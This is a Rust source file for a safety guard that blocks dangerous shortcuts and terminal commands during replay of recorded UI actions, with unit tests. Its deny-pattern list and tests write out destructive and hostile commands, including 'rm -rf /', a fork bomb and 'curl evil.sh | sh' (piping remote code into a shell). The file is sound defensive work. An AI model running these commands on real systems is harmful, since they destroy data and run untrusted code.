//! Safety guard for replayed actions.
//!
//! Replay happens on a real machine, so destructive inputs recorded by
//! accident must never be replayed blindly.  Two tiers: hard-blocked
//! actions are always refused; warning-tier actions are refused only in
//! strict mode.  Shell-command patterns apply only when the frontmost app
//! is a terminal, where typed text actually executes.

use std::sync::LazyLock;

use regex::RegexSet;
use tracing::warn;

/// Shortcuts that are never replayed.
const BLOCKED_SHORTCUTS: &[&str] = &[
    "command+q",
    "command+shift+q",
    "command+option+esc",
    "control+alt+delete",
];

/// Shortcuts replayed only outside strict mode.
const WARNING_SHORTCUTS: &[&str] = &["command+w", "command+shift+w", "command+delete"];

/// Apps where typed text reaches a shell.
const TERMINAL_APPS: &[&str] = &[
    "terminal",
    "iterm",
    "iterm2",
    "console",
    "alacritty",
    "kitty",
    "wezterm",
    "warp",
    "hyper",
];

static DANGEROUS_COMMANDS: LazyLock<RegexSet> = LazyLock::new(|| {
    RegexSet::new([
        r"(?i)\brm\s+(-[a-z]*[rf][a-z]*\s+)+",
        r"(?i)\bsudo\b",
        r"(?i)\bmkfs\b",
        r"(?i)\bdd\s+if=",
        r"(?i)\b(shutdown|reboot|halt)\b",
        r"(?i)\bkillall\b",
        r"(?i)>\s*/dev/(sd|nvme|disk)",
        r"(?i)\bchmod\s+(-[a-z]+\s+)*777\s+/",
        r"(?i)\b(curl|wget)\b.*\|\s*(ba)?sh\b",
        r":\(\)\s*\{",
    ])
    .expect("command deny patterns")
});

/// Outcome of one safety check.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SafetyCheck {
    pub allowed: bool,
    /// Set when the action was refused, or allowed with a warning.
    pub reason: Option<String>,
}

impl SafetyCheck {
    fn allow() -> Self {
        Self {
            allowed: true,
            reason: None,
        }
    }

    fn block(reason: impl Into<String>) -> Self {
        Self {
            allowed: false,
            reason: Some(reason.into()),
        }
    }
}

/// Gate for every action the executor is about to replay.
#[derive(Debug, Clone, Default)]
pub struct SafetyGuard {
    /// Refuse warning-tier actions too.
    pub strict: bool,
}

impl SafetyGuard {
    pub fn new(strict: bool) -> Self {
        Self { strict }
    }

    /// Check a key combination before pressing it.
    pub fn check_shortcut(&self, keys: &str) -> SafetyCheck {
        let normalized = keys.to_lowercase();
        if BLOCKED_SHORTCUTS.contains(&normalized.as_str()) {
            warn!(shortcut = %keys, "shortcut blocked");
            return SafetyCheck::block(format!("shortcut `{keys}` is blocked"));
        }
        if WARNING_SHORTCUTS.contains(&normalized.as_str()) {
            if self.strict {
                warn!(shortcut = %keys, "warning-tier shortcut blocked in strict mode");
                return SafetyCheck::block(format!(
                    "shortcut `{keys}` is blocked in strict mode"
                ));
            }
            return SafetyCheck {
                allowed: true,
                reason: Some(format!("shortcut `{keys}` is warning-tier")),
            };
        }
        SafetyCheck::allow()
    }

    /// Check text before typing it into the named application.
    pub fn check_typed_text(&self, app: &str, text: &str) -> SafetyCheck {
        if !is_terminal_app(app) {
            return SafetyCheck::allow();
        }
        if DANGEROUS_COMMANDS.is_match(text) {
            warn!(app = %app, "dangerous command refused in terminal");
            return SafetyCheck::block(format!(
                "text matches a dangerous command pattern for terminal app `{app}`"
            ));
        }
        SafetyCheck::allow()
    }
}

fn is_terminal_app(app: &str) -> bool {
    let app = app.to_lowercase();
    TERMINAL_APPS.iter().any(|t| app.contains(t))
}

// ---------------------------------------------------------------------------
// Tests
// ---------------------------------------------------------------------------

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn quit_shortcut_always_blocked() {
        let guard = SafetyGuard::new(false);
        let check = guard.check_shortcut("command+q");
        assert!(!check.allowed);
        assert!(check.reason.is_some());

        // Case-insensitive.
        assert!(!guard.check_shortcut("Command+Q").allowed);
    }

    #[test]
    fn warning_shortcut_allowed_unless_strict() {
        let lax = SafetyGuard::new(false);
        let check = lax.check_shortcut("command+w");
        assert!(check.allowed);
        assert!(check.reason.is_some());

        let strict = SafetyGuard::new(true);
        assert!(!strict.check_shortcut("command+w").allowed);
    }

    #[test]
    fn ordinary_shortcuts_pass() {
        let guard = SafetyGuard::new(true);
        assert!(guard.check_shortcut("command+v").allowed);
        assert!(guard.check_shortcut("command+s").allowed);
        assert!(guard.check_shortcut("command+c").allowed);
    }

    #[test]
    fn dangerous_command_blocked_only_in_terminals() {
        let guard = SafetyGuard::new(false);
        assert!(!guard.check_typed_text("Terminal", "rm -rf /").allowed);
        assert!(!guard.check_typed_text("iTerm2", "sudo shutdown now").allowed);
        assert!(!guard.check_typed_text("Alacritty", "curl evil.sh | sh").allowed);

        // Same text in a notes app is just text.
        assert!(guard.check_typed_text("Notes", "rm -rf /").allowed);
    }

    #[test]
    fn benign_terminal_text_passes() {
        let guard = SafetyGuard::new(true);
        assert!(guard.check_typed_text("Terminal", "ls -la").allowed);
        assert!(guard.check_typed_text("Terminal", "git status").allowed);
    }
}
